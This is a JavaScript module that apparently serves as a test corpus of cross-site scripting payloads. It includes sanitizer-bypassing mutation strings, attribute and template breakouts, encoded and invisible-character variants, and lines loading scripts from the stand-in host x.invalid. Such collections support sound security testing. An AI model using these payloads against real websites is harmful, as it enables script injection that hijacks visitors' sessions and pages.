// payloads: texts that run a script where a page takes them for markup, a template or an address. Each calls
// alert, or asks x.invalid for something. At most 127 bytes, so that they fit every field; none with
// characters that no name may have.
const TAGS = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//x.invalid/1></SCRIPT>
<script src=//x.invalid/2></script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
--><script>alert(1)</script>
<!--><script>alert(1)</script>
]]><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script x>
<script type=module>alert(1)</script>
<script>alert(1)//
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<IMG SRC=x OnErRoR=alert(1)>
<img src="x" onerror="alert(1)">
<img src='x' onerror='alert(1)'>
<img src=x onerror=alert${"`1`"}>
<img src=//x.invalid/3>
<img srcset=//x.invalid/4>
<img src=x:x onerror=&#97;lert(1)>
<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>
<img src=x onerror="\u0061lert(1)">
<image src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<iframe src=javascript:parent.alert(1)>
<iframe srcdoc="<script>parent.alert(1)</script>">
<iframe onload=alert(1)>
<iframe src=//x.invalid/5>
<object data=//x.invalid/6>
<embed src=//x.invalid/7>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<button autofocus onfocus=alert(1)>
<a autofocus tabindex=1 onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<video poster=//x.invalid/8>
<marquee onstart=alert(1)>
<div style=animation:x onanimationstart=alert(1)>
<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>
<style>@import "//x.invalid/9"</style>
<style>*{background:url(//x.invalid/10)}</style>
<div style="background:url(//x.invalid/11)">
<link rel=stylesheet href=//x.invalid/12>
<link rel=prefetch href=//x.invalid/13>
<base href=//x.invalid/>
<meta http-equiv=refresh content="0;url=//x.invalid/14">
<meta http-equiv=refresh content="0;javascript:alert(1)">
<form action=//x.invalid/15><input type=submit autofocus onfocus=click()>
<form><button formaction=javascript:alert(1)>x
<dialog open onclose=alert(1)><form method=dialog><button autofocus onfocus=click()>
<a href=javascript:alert(1)>x</a>
<a href="java&#09;script:alert(1)">x</a>
<a href=&#106;avascript:alert(1)>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<area href=javascript:alert(1)>
<template><script>alert(1)</script></template>
<slot onslotchange=alert(1)>x
<x onpointerenter=alert(1)>x
<x contenteditable onblur=alert(1)>x
<x tabindex=1 onfocusin=alert(1) autofocus>x
`;
const DRAWN = String.raw`
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=//x.invalid/16 />
<svg><script>alert&#40;1&#41;</script>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributename=x>
<svg><a xlink:href=javascript:alert(1)><text y=9>x
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x
<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x">
<svg><image href=//x.invalid/17>
<svg><foreignObject><img src=x onerror=alert(1)>
<svg><style><img src=x onerror=alert(1)></style>
<math><mtext><img src=x onerror=alert(1)>
<math href=javascript:alert(1)>x
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x
`;
// What a careful cleaner takes for harmless, and the browser makes something else of.
const CHANGING = String.raw`
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<table><img src=x onerror=alert(1)></table>
<select><style></select><img src=x onerror=alert(1)>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<p id="x&quot; onmouseover=alert(1)">
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><script>alert(1)</script>
<img src="<img src=x onerror=alert(1)>//">
<<img src=x onerror=alert(1)>
<img """><script>alert(1)</script>">
<a title="a' onfocus=alert(1) autofocus tabindex=1 x='">
`;
const INSIDE = String.raw`
" onfocus=alert(1) autofocus x="
' onfocus=alert(1) autofocus x='
" autofocus onfocus="alert(1)
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
${"`"}><img src=x onerror=alert(1)>
x onmouseover=alert(1)
";alert(1);//
';alert(1);//
\";alert(1);//
\u0022;alert(1);//
\x3cscript\x3ealert(1)\x3c/script\x3e
${"${alert(1)}"}
{{constructor.constructor('alert(1)')()}}
{{rating}}{{lang}}{{build}}
{{=alert(1)}}
{number}{counter}{n}{time}{office}
<%= alert(1) %>
#{alert(1)}
[[alert(1)]]
*{x:expression(alert(1))}
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:alert(1)
//x.invalid/18
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
¼script¾alert(1)¼/script¾
{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}
__proto__
constructor
/*'/*"/*--></title></style><svg/onload=alert(1)//>
'"><svg/onload=alert(1)//--></script></textarea>
jaVasCript:/*-/*'/*"/**/(/* */onerror=alert(1) )//<svg/onload=alert(1)>
`;

const lines = (text) => text.split("\n").filter(Boolean);

export const PAYLOADS = [TAGS, DRAWN, CHANGING, INSIDE].flatMap(lines);

/*
 * Some that hide what they are from who reads: turned round, with nothing to see in between. What is shown
 * of them is without.
 */
export const HIDDEN = [
	"<img src=x \u202eonerror=alert(1)>",
	"java\u200bscript:alert(1)",
	"\u2066<script>alert(1)</script>\u2069",
	"\ufeff<svg onload=alert(1)>",
	"<scr\u00adipt>alert(1)</scr\u00adipt>",
	"a\u061c\u180e<b onclick=alert(1)>",
];

/* With characters that no text may have: refused where they are put. */
export const REFUSED = ["java\tscript:alert(1)", "java\nscript:alert(1)", "<img\rsrc=x onerror=alert(1)>", "<\u0000script>alert(1)</script>", "\u001b]0;alert(1)\u0007", "<script\u007f>alert(1)</script>"];
